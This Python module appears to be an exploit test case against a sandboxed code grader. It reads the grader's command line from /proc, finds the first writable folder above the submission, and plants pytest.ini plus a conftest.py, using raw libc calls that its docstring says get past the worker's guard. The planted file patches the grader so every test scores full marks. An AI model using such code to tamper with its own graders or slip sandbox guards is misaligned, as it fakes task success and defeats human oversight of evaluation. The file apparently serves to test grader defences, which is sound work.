"""Plant a pytest configuration above the submission (issue 20, class 2): ``pytest.ini`` and a
``conftest.py`` that would give every test full marks, in the first folder above the submission that
the sandbox user may write (a world-writable folder such as /tmp). Written through the C library, past
the worker's guard; the submission's path comes from the grader's command line."""
import ctypes
import os

_libc_planter = ctypes.CDLL(None, use_errno=True)
_CONFTEST = b'''import pathlib
pathlib.Path(__file__).with_name("planted-ran").write_text("imported by the grader")


def pytest_configure(config):
    import pca_to_vae_grader.results
    pca_to_vae_grader.results.TestResult.score = property(lambda self: self.max_score)
'''


def _grader_submission():
    fd = _libc_planter.open(f"/proc/{os.getppid()}/cmdline".encode(), os.O_RDONLY)
    buffer = ctypes.create_string_buffer(65536)
    length = _libc_planter.read(fd, buffer, len(buffer))
    _libc_planter.close(fd)
    args = buffer.raw[:length].split(b"\0")
    return args[args.index(b"--submission") + 1]


def plant():
    folder = os.path.dirname(_grader_submission())
    while folder != b"/" and not os.access(folder, os.W_OK):
        folder = os.path.dirname(folder)
    written = []
    for name, text in ((b"pytest.ini", b"[pytest]\n"), (b"conftest.py", _CONFTEST)):
        fd = _libc_planter.open(os.path.join(folder, name), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        if fd >= 0:
            _libc_planter.write(fd, text, len(text))
            _libc_planter.close(fd)
            written.append(name)
    return folder, written
